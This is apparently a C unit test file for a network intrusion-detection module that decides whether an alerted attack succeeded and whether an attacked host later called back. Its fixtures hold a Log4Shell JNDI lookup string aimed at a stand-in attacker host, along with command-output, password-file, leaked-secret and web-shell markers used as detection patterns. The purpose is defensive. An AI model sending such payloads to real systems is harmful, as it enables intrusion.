/* SPDX-License-Identifier: Apache-2.0 */
/* verdict: what an answer proves, and what an attacked host does afterwards. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "../../src/probe/match/judge.h"
#include "probe/callback.h"
#include "probe/l7_file.h"

static struct verdict_heads heads;

#define S UINT64_C(1000000000)

/* ---- an l7 that knows what it is told ---- */

static struct {
	const char *status, *location, *type, *method, *server, *uri;
	enum l7_login login;
	struct l7_answered answer;
	uint8_t proto;
} says;

bool
l7_tx_buffer(const struct l7_tx *tx, const struct l7_ask *ask, struct view *out)
{
	bool back = ask->dir == DIR_TO_CLIENT;
	const char *text = ask->what == L7_BUF_HTTP_STAT_CODE              ? says.status
			   : ask->what == L7_BUF_HTTP_LOCATION             ? says.location
			   : ask->what == L7_BUF_HTTP_CONTENT_TYPE && back ? says.type
			   : ask->what == L7_BUF_HTTP_METHOD               ? says.method
			   : ask->what == L7_BUF_HTTP_SERVER               ? says.server
			   : ask->what == L7_BUF_HTTP_URI                  ? says.uri
									   : NULL;
	(void)tx;
	*out = view_of(text ? text : "");
	return text != NULL;
}

enum l7_login
l7_tx_login(const struct l7_tx *tx, const char **kind)
{
	*kind = "x";
	return tx->ready & L7_READY_EVENT ? says.login : L7_LOGIN_NONE;
}

bool
l7_tx_answer(const struct l7_tx *tx, struct l7_answered *out)
{
	(void)tx;
	*out = says.answer;
	return out->is != L7_ANSWER_NONE;
}

uint8_t
l7_proto(const struct flow *f)
{
	(void)f;
	return says.proto;
}

struct l7_file_about
l7_file_about(const struct l7_file *f)
{
	(void)f;
	return (struct l7_file_about){ .over = true, .whole = true };
}

static int
setup(void **state)
{
	(void)state;
	memset(&says, 0, sizeof(says));
	says.proto = L7_HTTP;
	return 0;
}

/* ---- proofs ---- */

static void
bytes_prove_what_they_prove(void **state)
{
	static const struct {
		const char *bytes;
		uint8_t why;
	} cases[] = {
		{ "<pre>uid=33(www-data) gid=33(www-data)", VERDICT_WHY_COMMAND_RAN },
		{ "uid=0 gid=0", VERDICT_WHY_NONE },
		{ "?uid=7(of nine)", VERDICT_WHY_NONE },
		{ "total 8\ndrwxr-xr-x 2 root root 4096 a\n", VERDICT_WHY_COMMAND_RAN },
		{ "the mode drwxr-xr-x 2 means", VERDICT_WHY_NONE },
		{ "Linux app 5.10.0 #1 SMP Debian x86_64 GNU/Linux", VERDICT_WHY_COMMAND_RAN },
		{ "Debian GNU/Linux is free", VERDICT_WHY_NONE },
		{ "Microsoft Windows [Version 10.0.17763.1]\r\n", VERDICT_WHY_SHELL },
		{ "Microsoft Windows [for beginners]", VERDICT_WHY_NONE },
		{ "->|output|<-", VERDICT_WHY_WEBSHELL },
		{ "a ->| b", VERDICT_WHY_NONE },
		{ "|<- ->| ->| b |<-", VERDICT_WHY_WEBSHELL },
		{ "|<- ->| ->|", VERDICT_WHY_NONE },
		{ "root:x:0:0:root:/root:/bin/bash", VERDICT_WHY_FILE_SHOWN },
		{ "DB_HOST=a\nDB_PASSWORD=b", VERDICT_WHY_SECRET_SHOWN },
		{ "write DB_PASSWORD= into it", VERDICT_WHY_NONE },
		{ "You have an error in your SQL syntax; check", VERDICT_WHY_SQL_ERROR },
		{ "NT AUTHORITY\\SYSTEM", VERDICT_WHY_COMMAND_RAN },
		{ "root:x:0:0: uid=0(root) gid=0(root)", VERDICT_WHY_COMMAND_RAN },
		{ "Request Rejected", VERDICT_WHY_WAF },
		{ "", VERDICT_WHY_NONE },
		{ "uid=", VERDICT_WHY_NONE },
		{ "uid=1(", VERDICT_WHY_NONE },
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct verdict_proof p = { .why = VERDICT_WHY_NONE };
		bool found = verdict_proof(&heads, view_of(cases[i].bytes), 0, &p);
		if (p.why != cases[i].why)
			fail_msg("\"%s\": %u", cases[i].bytes, p.why);
		assert_int_equal(found, cases[i].why != VERDICT_WHY_NONE);
	}
	/* what stood in the attack already proves nothing */
	struct view attack = view_of("/x?a=uid=0(root) gid=0(root)");
	struct verdict_proof p;
	assert_false(verdict_proof(&heads, view_of("you sent uid=0(root) gid=0(root)"),
	    verdict_proofs(&heads, attack), &p));
}

static void
addresses_are_found_in_attacks(void **state)
{
	struct verdict_addr a[VERDICT_ADDRS];
	static const uint8_t first[4] = { 198, 51, 100, 7 };
	(void)state;
	size_t n = verdict_addresses(
	    view_of("${jndi:ldap://198.51.100.7:1389/a} 127.0.0.1 1.2.3 300.1.1.1 0.0.0.0 1.2.3.4.5"
		    " 198.51.100.7"),
	    a, 0, VERDICT_ADDRS);
	assert_int_equal(n, 1);
	assert_memory_equal(a[0].addr.b, first, 4);
	assert_int_equal(verdict_addresses(view_of("9.9.9.9"), a, n, VERDICT_ADDRS), 2);
	assert_int_equal(
	    verdict_addresses(view_of("8.8.8.8 7.7.7.7 6.6.6.6"), a, 2, VERDICT_ADDRS), 3);
}

static void
names_are_found_in_attacks(void **state)
{
	struct view
	    v = view_of(
		"${jndi:ldap://a.Evil.example:1389/x} http://10.0.0.1/ x:// y://nodot b://c.d"),
	    name;
	size_t at = 0;
	(void)state;
	assert_true(verdict_next_name(v, &at, &name));
	struct addr one = verdict_name_key(name),
		    other = verdict_name_key(view_of("A.evil.EXAMPLE"));
	assert_true(addr_same(&one, &other));
	assert_true(verdict_next_name(v, &at, &name));
	assert_int_equal(name.len, 3);
	assert_false(verdict_next_name(v, &at, &name));
}

/* ---- a flow ---- */

static const uint8_t outside[4] = { 203, 0, 113, 9 }, inside[4] = { 10, 0, 0, 5 };
static bool site[2]; /* client, server: of the site though its address is public */

static struct flow
flow_of(uint64_t id)
{
	struct flow f = { .id = id, .flags = FLOW_ALERTED, .packets = { 2, 2 } };
	f.key.ip_ver = 4;
	f.key.proto = PROTO_TCP;
	memcpy(f.key.client.b, outside, 4);
	memcpy(f.key.server.b, inside, 4);
	return f;
}

static struct alert
alert_of(uint64_t id, const char *classtype, const char *own)
{
	return (struct alert){ .id = id, .classtype = classtype, .verdict = own, .tx_id = 0 };
}

static void
attack(struct verdicts *v, const struct flow *f, struct alert a, struct alert *after)
{
	struct alert_list list = { .n = 1 };
	struct packet p = { .payload = view_of("GET /x") };
	struct verdict_scene s = { .packet = &p,
		.flow = f,
		.dir = DIR_TO_SERVER,
		.ours = { site[0] || addr_is_private(&f->key.client, 4),
		    site[1] || addr_is_private(&f->key.server, 4) } };
	list.item[0] = a;
	verdict_begin(v);
	verdict_alerts(v, &s, &list);
	verdict_packet(v, &s, &list);
	if (after)
		*after = list.item[0];
}

/* The server's answer; returns why, VERDICT_WHY_NONE when nothing is said. */
static uint8_t
answered(struct verdicts *v, const struct flow *f, const char *body)
{
	struct alert_list list = { .n = 0 };
	struct l7_window w = { .data = view_of(body), .dir = DIR_TO_CLIENT };
	struct l7_tx tx = { .proto = says.proto,
		.ready = L7_READY_RESPONSE | L7_READY_EVENT,
		.data = &says,
		.window = &w,
		.window_n = 1 };
	struct packet p = { .payload = view_of("HTTP") };
	struct verdict_scene s = {
		.packet = &p, .flow = f, .dir = DIR_TO_CLIENT, .tx = &tx, .tx_n = 1
	};
	size_t n;
	verdict_begin(v);
	verdict_packet(v, &s, &list);
	const struct verdict_said *said = verdict_said(v, &n);
	return n ? said[0].why : VERDICT_WHY_NONE;
}

static void
answers_of_the_web_decide(void **state)
{
	static const struct {
		const char *status, *location, *type, *body;
		uint8_t why;
	} cases[] = {
		{ "404", NULL, "text/html", "<h1>404", VERDICT_WHY_HTTP_MISSING },
		{ "403", NULL, "text/html", "<h1>no", VERDICT_WHY_HTTP_REFUSED },
		{ "500", NULL, "text/html", "<h1>oh", VERDICT_WHY_NONE },
		{ "302", "/sso/Login?x", NULL, "", VERDICT_WHY_HTTP_LOGIN },
		{ "302", "/index", NULL, "", VERDICT_WHY_NONE },
		{ "200", NULL, "text/html", "<p>hello", VERDICT_WHY_NONE },
		{ "200", NULL, "text/html", "<p>Request Rejected", VERDICT_WHY_WAF },
		{ "500", NULL, "text/html", "<p>uid=0(root) gid=0(root)", VERDICT_WHY_COMMAND_RAN },
	};
	struct verdicts *v = verdicts_new(16, HASH_KEY_FIXED);
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct flow f = flow_of(i + 1);
		struct alert a;
		attack(v, &f, alert_of(i + 1, "web-application-attack", NULL), &a);
		assert_string_equal(a.verdict, "attempt");
		says.status = cases[i].status;
		says.location = cases[i].location;
		says.type = cases[i].type;
		if (answered(v, &f, cases[i].body) != cases[i].why)
			fail_msg("%s %s", cases[i].status, cases[i].body);
		verdict_end(v, &f);
	}
	verdicts_free(v);
}

static char *
filled(const char *word, size_t n, const char *end)
{
	size_t len = strlen(word), at = 0;
	char *text = malloc(n + len + strlen(end) + 1);
	assert_non_null(text);
	for (; at < n; at += len)
		memcpy(text + at, word, len);
	strcpy(text + at, end);
	return text;
}

/* What looks ahead from each of a million beginnings would not come to an end. */
static void
proofs_that_do_not_end_cost_nothing(void **state)
{
	struct verdict_proof p;
	char *text = filled("->|Microsoft Windows [", 16u << 20, "");
	(void)state;
	assert_false(verdict_proof(&heads, view_of(text), 0, &p));
	free(text);
	text = filled("->|", 16u << 20, "|<-");
	assert_true(verdict_proof(&heads, view_of(text), 0, &p));
	free(text);
}

/* An answer that says no, but may be another's words: the attack stays an attempt. */
static void
a_no_is_not_believed_blindly(void **state)
{
	struct verdicts *v = verdicts_new(16, HASH_KEY_FIXED);
	struct flow f = flow_of(1);
	char *padded = filled("x", 70000, "");
	uint64_t id = 1;
	(void)state;
	says.status = "404";
	says.type = "text/plain";
	/* an attack that has the proof in it */
	struct alert_list list = { .n = 1,
		.item = { alert_of(id++, "web-application-attack", NULL) } };
	struct packet p = { .payload = view_of("GET /?a=uid=0(root) gid=0(root)") };
	struct verdict_scene s = {
		.packet = &p, .flow = &f, .dir = DIR_TO_SERVER, .ours = { false, true }
	};
	verdict_begin(v);
	verdict_alerts(v, &s, &list);
	verdict_packet(v, &s, &list);
	assert_int_equal(answered(v, &f, "uid=0(root) gid=0(root)"), VERDICT_WHY_NONE);
	verdict_end(v, &f);
	/* a web shell's 404 */
	struct alert shell = alert_of(id++, "trojan-activity", NULL);
	shell.attack = "T1505.003";
	attack(v, &f, shell, NULL);
	assert_int_equal(answered(v, &f, "d2luMjAxOQ=="), VERDICT_WHY_NONE);
	verdict_end(v, &f);
	shell.id = id++;
	attack(v, &f, shell, NULL);
	assert_int_equal(answered(v, &f, ""), VERDICT_WHY_HTTP_MISSING);
	verdict_end(v, &f);
	/* more than is looked at, in pieces */
	attack(v, &f, alert_of(id++, "web-application-attack", NULL), NULL);
	says.status = NULL;
	assert_int_equal(answered(v, &f, padded), VERDICT_WHY_NONE);
	says.status = "404";
	assert_int_equal(answered(v, &f, "uid=0(root) gid=0(root)"), VERDICT_WHY_NONE);
	/* the next attack of the flow has its own share */
	attack(v, &f, alert_of(id++, "web-application-attack", NULL), NULL);
	assert_int_equal(answered(v, &f, "uid=0(root) gid=0(root)"), VERDICT_WHY_COMMAND_RAN);
	free(padded);
	verdicts_free(v);
}

/* Eight attacks that came to nothing make room for the ninth. */
static void
decided_alerts_give_way(void **state)
{
	struct verdicts *v = verdicts_new(16, HASH_KEY_FIXED);
	struct flow f = flow_of(1);
	(void)state;
	says.type = "text/html";
	for (uint64_t i = 1; i <= 20; i++) {
		attack(v, &f, alert_of(i, "web-application-attack", NULL), NULL);
		says.status = "404";
		assert_int_equal(answered(v, &f, "<p>"), VERDICT_WHY_HTTP_MISSING);
	}
	attack(v, &f, alert_of(21, "web-application-attack", NULL), NULL);
	assert_int_equal(answered(v, &f, "uid=0(root) gid=0(root)"), VERDICT_WHY_COMMAND_RAN);
	assert_int_equal(verdict_count(v).forgotten, 13);
	verdicts_free(v);
}

/* The rule's word stands unless the answer speaks against it; an infected host is not healed. */
static void
the_rules_word_counts(void **state)
{
	struct verdicts *v = verdicts_new(16, HASH_KEY_FIXED);
	struct flow f = flow_of(1), beacon = flow_of(2), policy = flow_of(3);
	struct alert a;
	(void)state;
	attack(v, &f, alert_of(1, "web-application-attack", "compromised"), &a);
	assert_string_equal(a.verdict, "compromised");
	says.status = "404";
	assert_int_equal(answered(v, &f, ""), VERDICT_WHY_HTTP_MISSING);

	memcpy(beacon.key.client.b, inside, 4);
	memcpy(beacon.key.server.b, outside, 4);
	attack(v, &beacon, alert_of(2, "trojan-activity", "compromised"), &a);
	assert_int_equal(answered(v, &beacon, ""), VERDICT_WHY_NONE);
	attack(v, &policy, alert_of(3, "policy-violation", NULL), &a);
	assert_null(a.verdict);
	assert_int_equal(answered(v, &policy, "uid=0(root) gid=0(root)"), VERDICT_WHY_NONE);
	verdicts_free(v);
}

/* A trojan's rule on an outside client: an attack, when the server is the site's, whatever its
 * address. */
static void
the_site_says_what_is_its_own(void **state)
{
	struct verdicts *v = verdicts_new(16, HASH_KEY_FIXED);
	struct flow other = flow_of(1), own = flow_of(2);
	struct alert a;
	(void)state;
	memcpy(other.key.server.b, (const uint8_t[]){ 198, 51, 100, 5 }, 4);
	own.key.server = other.key.server;
	says.status = "200";
	attack(v, &other, alert_of(1, "trojan-activity", NULL), &a);
	assert_int_not_equal(
	    answered(v, &other, "uid=0(root) gid=0(root)"), VERDICT_WHY_COMMAND_RAN);
	site[1] = true;
	attack(v, &own, alert_of(2, "trojan-activity", NULL), &a);
	site[1] = false;
	assert_int_equal(answered(v, &own, "uid=0(root) gid=0(root)"), VERDICT_WHY_COMMAND_RAN);
	verdicts_free(v);
}

/* What is no attack is not judged, and no attack is judged by what it does not rest on. */
static void
more_is_not_claimed_than_is_known(void **state)
{
	static const struct alert_meta about = { "signature_severity", "Informational" };
	struct verdicts *v = verdicts_new(16, HASH_KEY_FIXED);
	struct flow info = flow_of(1), smb = flow_of(2), overflow = flow_of(3), back = flow_of(4);
	struct alert a = alert_of(1, "bad-unknown", NULL);
	(void)state;
	a.attack = "T1568";
	a.meta = &about;
	a.meta_n = 1;
	attack(v, &info, a, &a);
	assert_null(a.verdict);

	/* a trojan's rule on a share: an attack on that host, not its controller */
	says.proto = L7_SMB;
	says.answer = (struct l7_answered){ .is = L7_ANSWER_DONE };
	memcpy(smb.key.client.b, inside, 4);
	memcpy(smb.key.server.b, inside, 4);
	attack(v, &smb, alert_of(2, "trojan-activity", NULL), &a);
	assert_int_equal(answered(v, &smb, ""), VERDICT_WHY_DONE);

	says.answer = (struct l7_answered){ .is = L7_ANSWER_NONE };
	says.login = L7_LOGIN_OK;
	attack(v, &overflow, alert_of(3, "attempted-admin", NULL), &a);
	assert_int_equal(answered(v, &overflow, ""), VERDICT_WHY_NONE);
	says.login = L7_LOGIN_NONE;

	/* raised by the answer: that it refuses is what the rule is about */
	says.answer = (struct l7_answered){ .is = L7_ANSWER_REFUSED };
	a = alert_of(4, "attempted-admin", NULL);
	a.dir = DIR_TO_CLIENT;
	attack(v, &back, a, &a);
	assert_int_equal(answered(v, &back, ""), VERDICT_WHY_NONE);
	verdicts_free(v);
}

static void
logins_and_silence_decide(void **state)
{
	struct verdicts *v = verdicts_new(16, HASH_KEY_FIXED);
	struct flow f = flow_of(1);
	size_t n;
	(void)state;
	says.proto = L7_FTP;
	says.login = L7_LOGIN_FAIL;
	attack(v, &f, alert_of(1, "suspicious-login", NULL), NULL);
	assert_int_equal(answered(v, &f, ""), VERDICT_WHY_LOGIN_FAILED);
	says.login = L7_LOGIN_OK;
	assert_int_equal(answered(v, &f, ""), VERDICT_WHY_LOGIN_WORKED);
	says.login = L7_LOGIN_FAIL;
	assert_int_equal(answered(v, &f, ""), VERDICT_WHY_NONE); /* never less grave */
	verdict_end(v, &f);

	f = flow_of(2);
	f.packets[DIR_TO_CLIENT] = 0;
	attack(v, &f, alert_of(2, "attempted-recon", NULL), NULL);
	verdict_begin(v);
	verdict_end(v, &f);
	assert_int_equal(verdict_said(v, &n)->why, VERDICT_WHY_NOBODY);
	assert_int_equal(n, 1);
	f.tcp_flags[DIR_TO_SERVER] = TCP_SYN | TCP_ACK; /* one side of a connection */
	attack(v, &f, alert_of(4, "attempted-recon", NULL), NULL);
	verdict_begin(v);
	verdict_end(v, &f);
	(void)verdict_said(v, &n);
	assert_int_equal(n, 0);
	f = flow_of(3);
	f.tcp_flags[DIR_TO_CLIENT] = TCP_RST | TCP_ACK;
	attack(v, &f, alert_of(3, "attempted-recon", NULL), NULL);
	verdict_begin(v);
	verdict_end(v, &f);
	assert_int_equal(verdict_said(v, &n)->why, VERDICT_WHY_REFUSED);
	verdicts_free(v);
}

static void
cases_are_bounded(void **state)
{
	struct verdicts *v = verdicts_new(64, HASH_KEY_FIXED);
	struct flow first = flow_of(1), last = flow_of(100);
	(void)state;
	for (uint64_t i = 1; i <= 100; i++) {
		struct flow f = flow_of(i);
		for (unsigned k = 0; k < 20; k++)
			attack(v, &f, alert_of(i * 100 + k, "web-application-attack", NULL), NULL);
	}
	/* 36 flows, and of each what comes behind eight alerts that wait */
	assert_int_equal(verdict_count(v).forgotten, 36 + 100 * 12);
	says.status = "404";
	assert_int_equal(answered(v, &first, ""), VERDICT_WHY_NONE);
	assert_int_equal(answered(v, &last, ""), VERDICT_WHY_HTTP_MISSING);
	verdicts_free(v);
}

/* ---- afterwards ---- */

static struct notice_record
record_of(uint8_t kind, const uint8_t client[4], const uint8_t server[4], uint64_t ts)
{
	struct notice_record r = { .ts = ts,
		.ip_ver = 4,
		.proto = PROTO_TCP,
		.kind = kind,
		.cport = 40000,
		.sport = 4444 };
	memcpy(r.client.b, client, 4);
	memcpy(r.server.b, server, 4);
	return r;
}

static void
callbacks_are_noticed(void **state)
{
	struct callback *c = callback_new(64, 600 * S, HASH_KEY_FIXED);
	struct callback_said said[CALLBACK_ALERTS];
	struct notice_record w = record_of(NOTICE_WATCH, outside, inside, S), r;
	(void)state;
	w.alert = 77;
	w.how = VERDICT_TO_ATTACKER;
	assert_int_equal(callback_record(c, &w, said), 0);
	r = record_of(NOTICE_CONTACT_NEW, outside, inside, 2 * S); /* the attacker comes again */
	assert_int_equal(callback_record(c, &r, said), 0);
	r = record_of(NOTICE_CONTACT_NEW, inside, outside, 3 * S);
	r.cport = 20; /* a data connection of FTP */
	assert_int_equal(callback_record(c, &r, said), 0);
	r.cport = 40000;
	assert_int_equal(callback_record(c, &r, said), 1);
	assert_int_equal(said[0].alert, 77);
	assert_int_equal(said[0].why, VERDICT_WHY_CALLBACK_TRIED);
	assert_int_equal(callback_record(c, &r, said), 0); /* said once */
	r = record_of(NOTICE_CONTACT_OK, inside, outside, 4 * S);
	assert_int_equal(callback_record(c, &r, said), 1);
	assert_int_equal(said[0].why, VERDICT_WHY_CALLBACK);
	w.alert = 78;
	assert_int_equal(callback_record(c, &w, said), 0);
	r.ts = 602 * S; /* too late */
	assert_int_equal(callback_record(c, &r, said), 0);
	callback_free(c);
}

static void
what_waits_for_callbacks_is_bounded(void **state)
{
	struct callback *c = callback_new(64, 600 * S, HASH_KEY_FIXED);
	struct callback_said said[CALLBACK_ALERTS];
	struct notice_record r;
	(void)state;
	for (uint64_t i = 0; i < 1000; i++) {
		uint8_t server[4] = { 10, 1, (uint8_t)(i >> 8), (uint8_t)i };
		struct notice_record w = record_of(NOTICE_WATCH, outside, server, S);
		for (w.alert = 1; w.alert < 20; w.alert++)
			assert_int_equal(callback_record(c, &w, said), 0);
	}
	uint8_t last[4] = { 10, 1, 999 >> 8, 999 & 255 }, early[4] = { 10, 1, 0, 0 };
	r = record_of(NOTICE_CONTACT_OK, last, outside, 2 * S);
	assert_int_equal(callback_record(c, &r, said), CALLBACK_ALERTS);
	r = record_of(NOTICE_CONTACT_OK, early, outside, 2 * S);
	assert_int_equal(callback_record(c, &r, said), 0);
	callback_free(c);
}

int
main(void)
{
	verdict_heads_fill(&heads);
#define TEST(f) cmocka_unit_test_setup(f, setup)
	const struct CMUnitTest tests[] = {
		TEST(bytes_prove_what_they_prove),
		TEST(addresses_are_found_in_attacks),
		TEST(names_are_found_in_attacks),
		TEST(answers_of_the_web_decide),
		TEST(proofs_that_do_not_end_cost_nothing),
		TEST(a_no_is_not_believed_blindly),
		TEST(decided_alerts_give_way),
		TEST(the_rules_word_counts),
		TEST(the_site_says_what_is_its_own),
		TEST(more_is_not_claimed_than_is_known),
		TEST(logins_and_silence_decide),
		TEST(cases_are_bounded),
		TEST(callbacks_are_noticed),
		TEST(what_waits_for_callbacks_is_bounded),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
